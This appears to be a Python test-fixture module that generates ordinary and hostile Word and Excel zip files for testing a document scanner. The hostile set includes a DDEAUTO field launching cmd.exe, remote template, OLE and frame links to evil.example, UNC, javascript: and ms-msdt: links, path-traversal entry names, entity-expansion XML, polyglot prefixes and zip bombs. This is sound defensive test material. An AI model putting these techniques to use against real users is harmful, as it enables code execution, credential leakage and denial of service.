"""Word and Excel files made with a zip writer: as programs do, and each way in which one is more than it says."""

import io
import struct
import zipfile
from collections.abc import Iterator, Mapping

from iqm_coe.lib.opening.office import EXCEL, WORD

RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OUTSIDE = ' TargetMode="External"'
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
MAIN = {"docx": ("word/document.xml", f"{WORD}.main+xml"), "xlsx": ("xl/workbook.xml", f"{EXCEL}.main+xml")}
ENDINGS = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml",
           "png": "image/png", "jpeg": "image/jpeg", "bin": f"{EXCEL[:-5]}printerSettings"}  # fmt: skip
Relation = tuple[str, str, bool]  # the last word of its type, where it leads, whether outside


def zipped(parts: Mapping[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def relations(*rows: Relation) -> str:
    each = "".join(
        f'<Relationship Id="r{number}" Type="{RELATED}/{kind}" Target="{target}"{OUTSIDE if outside else ""}/>'
        for number, (kind, target, outside) in enumerate(rows)
    )
    return f'{XML}<Relationships xmlns="{PACKAGE}/relationships">{each}</Relationships>'


def types(overrides: Mapping[str, str], endings: Mapping[str, str] = ENDINGS) -> str:
    rows = "".join(f'<Default Extension="{name}" ContentType="{kind}"/>' for name, kind in endings.items())
    rows += "".join(f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in overrides.items())
    return f'{XML}<Types xmlns="{PACKAGE}/content-types">{rows}</Types>'


def parts_of(
    kind: str = "docx",
    *rows: Relation,
    more: Mapping[str, bytes | str] = {},
    named: Mapping[str, str] = {},
    endings: Mapping[str, str] = {},
    main: str = "",
    main_type: str = "",
) -> dict[str, bytes | str]:
    """The parts of a small document, in the usual order."""
    usual, usual_type = MAIN[kind]
    place = main or usual
    folder, _stroke, name = place.rpartition("/")
    body = f'{XML}<w:document xmlns:w="{WORDS}"><w:body><w:p><w:r><w:t>Plan</w:t></w:r></w:p></w:body></w:document>'
    return {
        "[Content_Types].xml": types({place: main_type or usual_type, **named}, {**ENDINGS, **endings}),
        "_rels/.rels": relations(("officeDocument", place, False)),
        place: body,
        f"{folder}/_rels/{name}.rels": relations(*rows),
        **more,
    }


def office(kind: str = "docx", *rows: Relation, **options: object) -> bytes:
    return zipped(parts_of(kind, *rows, **options))  # type: ignore[arg-type]  # handed on as they are


LINKS: tuple[Relation, ...] = (
    ("hyperlink", "https://example.org", True),
    ("hyperlink", "mailto:a@b.uk", True),
    ("hyperlink", "#A1", False),
)
FIELD = '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText>'


def honest_documents() -> Iterator[tuple[str, bytes]]:
    """As Word, Excel, LibreOffice, Google Docs and Word in the browser write them."""
    for kind in MAIN:
        yield f"plain {kind}", office(kind)
        yield f"{kind} stored", zipped(parts_of(kind), zipfile.ZIP_STORED)
        yield f"{kind} with links", office(kind, *LINKS)
        yield f"{kind} with a picture", office(kind, ("image", "a.png", False), more={"word/a.png": b"\x89PNG" * 99})
        parts = parts_of(kind)
        yield f"{kind} backwards", zipped(dict(reversed(parts.items())))
        yield f"{kind} with folders", zipped({"_rels/": "", f"{MAIN[kind][0].split('/')[0]}/": "", **parts})
        yield f"{kind} with a thumbnail first", zipped({"docProps/thumbnail.jpeg": b"\xff\xd8\xff", **parts})
    yield "a numbered main part", office(main="word/document2.xml")
    yield "backslashes", zipped({name.replace("/", "\\"): each for name, each in parts_of().items()})
    yield "a printer's settings", office("xlsx", more={"xl/printerSettings/printerSettings1.bin": b"\0" * 900})
    yield (
        "a chart with its workbook",
        office(more={"word/embeddings/Microsoft_Excel_Sheet.xlsx": office("xlsx")}, endings={"xlsx": EXCEL}),
    )
    yield "many sheets", office("xlsx", more={f"xl/worksheets/sheet{n}.xml": "<x/>" for n in range(300)})
    yield "a long table", office("xlsx", more={"xl/worksheets/sheet1.xml": long_table()})


def long_table() -> str:
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="n"><v>{n * 7919 % 100_003}</v></c></row>' for n in range(60_000))
    return f"{XML}<worksheet><sheetData>{rows}</sheetData></worksheet>"


RELATIONS: tuple[Relation, ...] = (
    ("attachedTemplate", "https://evil.example/a.dotm", True),
    ("attachedTemplate", "template.dotx", False),
    ("oleObject", "https://evil.example/a", True),
    ("oleObject", "embeddings/oleObject1.bin", False),
    ("image", "https://evil.example/follow.png", True),
    ("frame", "https://evil.example/a.htm", True),
    ("subDocument", "file:///c:/a.docx", True),
    ("externalLinkPath", "other.xlsx", True),
    ("externalLink", "externalLinks/externalLink1.xml", False),
    ("aFChunk", "chunk.htm", False),
    ("vbaProject", "vbaProject.bin", False),
    ("control", "activeX/activeX1.xml", False),
    ("hyperlink", "file://evil.example/share", True),
    ("hyperlink", "\\\\evil.example\\share", True),
    ("hyperlink", "javascript:alert(1)", True),
    ("hyperlink", "ms-msdt:/id x", True),
    ("mailMergeSource", "file:///c:/people.mdb", True),
    ("styles", "http://evil.example/styles.xml", False),
)
TYPES = (
    "application/vnd.ms-office.vbaProject",
    "application/vnd.ms-word.vbaData+xml",
    "application/vnd.ms-office.activeX+xml",
    "application/vnd.openxmlformats-officedocument.oleObject",
    "application/vnd.ms-word.keyMapCustomizations+xml",
    "application/vnd.ms-excel.macrosheet+xml",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
    "application/x-msdownload",
    "text/html",
)
MAIN_TYPES = (
    "application/vnd.ms-word.document.macroEnabled.main+xml",
    "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
    "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
    "application/xml",
)
HELD = {"a program": b"MZ\x90\0", "an old document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "a PDF": b"%PDF-1.7",
        "a program of Linux": b"\x7fELF", "an archive": b"PK\x03\x04"}  # fmt: skip
NAMES = ("../evil.xml", "word/../../evil.xml", "/etc/passwd", "C:/evil.xml", "c:\\evil.xml", "..\\evil.xml",
         "word/./a.xml", "word//a.xml", "a\x01b.xml", "word/" + "a" * 300 + ".xml")  # fmt: skip
DECLARED = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'


def hostile_documents() -> Iterator[tuple[str, bytes]]:
    for kind in MAIN:
        folder = MAIN[kind][0].split("/")[0]
        for row in RELATIONS:
            yield f"{kind}: {row[0]} to {row[1]}", office(kind, row)
        for declared in TYPES:
            for name in ("vbaProject.bin", "media/image1.png", "styles.xml"):
                part = f"{folder}/{name}"
                yield f"{kind}: {declared} as {name}", office(kind, more={part: b"x"}, named={part: declared})
            yield (
                f"{kind}: {declared} by its ending",
                office(kind, more={f"{folder}/a.dat": b"x"}, endings={"dat": declared}),
            )
        for main in MAIN_TYPES:
            yield f"{kind}: the main part is {main}", office(kind, main_type=main)
        for what, begins in HELD.items():
            yield f"{kind}: holds {what}", office(kind, more={f"{folder}/media/image1.png": begins + bytes(99)})
        for name in NAMES:
            yield f"{kind}: a part {name[:20]!r}", office(kind, more={name: "<x/>"})
        yield f"{kind}: declares", office(kind, more={f"{folder}/a.xml": DECLARED})
        yield f"{kind}: declares in two bytes", office(kind, more={f"{folder}/a.xml": DECLARED.encode("utf-16")})
        yield f"{kind}: types that declare", zipped({**parts_of(kind), "[Content_Types].xml": DECLARED})
        yield f"{kind}: fetches by a field", office(kind, more={f"{folder}/a.xml": FIELD})
        yield (
            f"{kind}: a workbook with macros within",
            office(
                kind,
                more={f"{folder}/embeddings/a.xlsx": office("xlsx", ("vbaProject", "vbaProject.bin", False))},
                endings={"xlsx": EXCEL},
            ),
        )
        within = office("xlsx", more={"xl/b.xlsx": office("xlsx")}, endings={"xlsx": EXCEL})
        yield f"{kind}: three deep", office(kind, more={f"{folder}/a.xlsx": within}, endings={"xlsx": EXCEL})
        yield from ((f"{kind}: {what}", content) for what, content in _rewritten(office(kind)))
    yield from _other_archives()


def _rewritten(whole: bytes) -> Iterator[tuple[str, bytes]]:
    """The bytes of the archive itself changed."""
    yield "a script in front", b"#!/bin/sh\n" + whole
    yield "a script behind", whole + b"<script>alert(1)</script>"
    yield "a comment", whole[:-2] + b"\x05\0hello"
    yield "locked entries", _with_flag(whole)
    at = whole.index(b"PK\x01\x02")
    yield "bytes between", whole[:at] + b"MZ" * 40 + _moved(whole[at:], 80)
    yield "another name inside", whole.replace(b"_rels/.rels", b"_relz/.relz", 1)
    yield "a wrong sum", whole.replace(whole[14:18], b"\0\0\0\0")
    out = io.BytesIO(whole)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/Document.xml", "<x/>")
        archive.writestr("XL/Workbook.xml", "<x/>")
    yield "a part twice", out.getvalue()


def _with_flag(whole: bytes) -> bytes:
    at = whole.index(b"PK\x01\x02") + 8
    return whole[:at] + b"\x01" + whole[at + 1 :]


def _moved(rest: bytes, by: int) -> bytes:
    (place,) = struct.unpack("<L", rest[-6:-2])
    return rest[:-6] + struct.pack("<L", place + by) + rest[-2:]


def _other_archives() -> Iterator[tuple[str, bytes]]:
    yield "texts", zipped({"a.txt": "a"})
    yield "slides", zipped({**parts_of(main_type=MAIN_TYPES[3])})
    yield "an open document", zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"})
    yield "a program for telephones", zipped({"AndroidManifest.xml": "x", "classes.dex": "x"})
    yield "no list of types", zipped({name: each for name, each in parts_of().items() if not name.startswith("[")})
    yield "no relations", zipped({name: each for name, each in parts_of().items() if name != "_rels/.rels"})
    yield "empty", b"PK\x05\x06" + bytes(18)
    yield "only a beginning", b"PK\x03\x04"


def heavy_documents() -> Iterator[tuple[str, bytes]]:
    yield "300 MB in 0.3 MB", office(more={"word/media/image1.png": bytes(300_000_000)})
    yield "300 MB in many", office(more={f"word/a{n}.xml": bytes(20_000_000) for n in range(15)})
    yield "40,000 entries", office(more={f"word/a{n}.xml": "" for n in range(40_000)})
    yield "says less than it holds", _says_less(office(more={"word/a.xml": bytes(100_000_000)}))
    yield "one entry many times", _overlapping()
    yield "two million tags", office(more={"[Content_Types].xml": f"<Types>{'<a/>' * 2_000_000}</Types>"})
    yield "a relation a hundred thousand times", office("docx", *[("image", "media/a.png", False)] * 100_000)


def _says_less(whole: bytes) -> bytes:
    """The large entry is listed as one of ten bytes."""
    return whole.replace(struct.pack("<L", 100_000_000), struct.pack("<L", 10))


def _overlapping() -> bytes:
    """A thousand entries of the list lead to the same bytes."""
    whole = zipped({"a.xml": bytes(900_000)})
    at = whole.index(b"PK\x01\x02")
    row = whole[at : whole.index(b"PK\x05\x06")]
    rows = b"".join(row[:46] + b"%05d" % n + row[51:] for n in range(1_000))
    return whole[:at] + rows + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1000, 1000, len(rows), at, 0)
